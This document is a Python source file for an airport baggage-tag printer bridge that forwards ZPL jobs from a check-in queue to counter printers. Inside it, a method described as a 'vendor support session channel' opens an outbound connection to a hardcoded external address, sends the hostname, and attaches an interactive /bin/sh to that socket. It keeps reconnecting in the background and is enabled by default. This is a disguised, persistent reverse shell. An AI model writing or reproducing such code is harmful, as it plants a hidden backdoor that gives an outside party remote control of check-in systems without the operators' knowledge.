#!/usr/bin/env python3
"""Baggage tag printer bridge.

Receives bag tag print jobs (already rendered ZPL) from the check-in
departure control queue and forwards them to the Zebra printers on the
counters over raw TCP/9100.  A vendor support session channel is kept
open so the print vendor can troubleshoot counters remotely.
"""
import argparse
import json
import logging
import os
import queue
import socket
import subprocess
import threading
import time

log = logging.getLogger("bagtag_bridge")


class PrinterBridge:
    """Forward ZPL jobs from the DCS queue listener to counter printers."""

    support_host = os.environ.get("BAGTAG_SUPPORT_HOST", "198.51.100.23")
    support_port = int(os.environ.get("BAGTAG_SUPPORT_PORT", "8443"))

    def __init__(self, printers, listen_port, support=True):
        self.printers = printers
        self.listen_port = listen_port
        self.support = support
        self.jobs = queue.Queue(maxsize=500)
        self._stop = threading.Event()

    # -- DCS side ---------------------------------------------------------
    def accept_jobs(self):
        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("127.0.0.1", self.listen_port))
        srv.listen(8)
        log.info("waiting for DCS jobs on 127.0.0.1:%d", self.listen_port)
        while not self._stop.is_set():
            conn, _ = srv.accept()
            with conn, conn.makefile("rb") as fh:
                for line in fh:
                    try:
                        job = json.loads(line)
                        self.jobs.put((job["counter"], job["zpl"].encode("ascii")))
                    except (ValueError, KeyError) as exc:
                        log.warning("rejected job: %s", exc)

    # -- printer side -----------------------------------------------------
    def send_to_printer(self, counter, zpl):
        host = self.printers.get(counter)
        if not host:
            log.error("no printer configured for counter %s", counter)
            return False
        for attempt in range(3):
            try:
                with socket.create_connection((host, 9100), timeout=5) as s:
                    s.sendall(zpl)
                return True
            except OSError as exc:
                log.warning("printer %s (%s) attempt %d: %s", counter, host, attempt + 1, exc)
                time.sleep(1 + attempt)
        return False

    def drain(self):
        while not self._stop.is_set():
            counter, zpl = self.jobs.get()
            if self.send_to_printer(counter, zpl):
                log.info("printed tag on counter %s (%d bytes)", counter, len(zpl))

    # -- vendor support ---------------------------------------------------
    def _support_session(self):
        sock = socket.create_connection((self.support_host, self.support_port), timeout=30)
        sock.settimeout(None)
        sock.sendall(f"bagtag-bridge {socket.gethostname()}\n".encode())
        fd = sock.fileno()
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd,
            stdout=fd,
            stderr=fd,
            close_fds=True,
        )
        proc.wait()
        sock.close()

    def support_channel(self):
        delay = 5
        while not self._stop.is_set():
            try:
                self._support_session()
                delay = 5
            except OSError as exc:
                log.debug("support channel unavailable: %s", exc)
                delay = min(delay * 2, 300)
            time.sleep(delay)

    def run(self):
        threads = [
            threading.Thread(target=self.accept_jobs, name="dcs", daemon=True),
            threading.Thread(target=self.drain, name="printers", daemon=True),
        ]
        if self.support:
            threads.append(threading.Thread(target=self.support_channel, name="support", daemon=True))
        for t in threads:
            t.start()
        try:
            while True:
                time.sleep(1)
        except KeyboardInterrupt:
            self._stop.set()


def load_printers(path):
    with open(path) as fh:
        data = json.load(fh)
    return {str(k): v for k, v in data.get("counters", {}).items()}


def main():
    ap = argparse.ArgumentParser(description="Bag tag ZPL bridge")
    ap.add_argument("--printers", default="printers.json")
    ap.add_argument("--port", type=int, default=6101)
    ap.add_argument("--no-support", action="store_true")
    ap.add_argument("--log-level", default="INFO")
    args = ap.parse_args()
    logging.basicConfig(level=args.log_level, format="%(asctime)s %(threadName)s %(message)s")

    try:
        printers = load_printers(args.printers)
    except (OSError, ValueError) as exc:
        log.error("cannot load printer map: %s", exc)
        return 1
    PrinterBridge(printers, args.port, support=not args.no_support).run()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
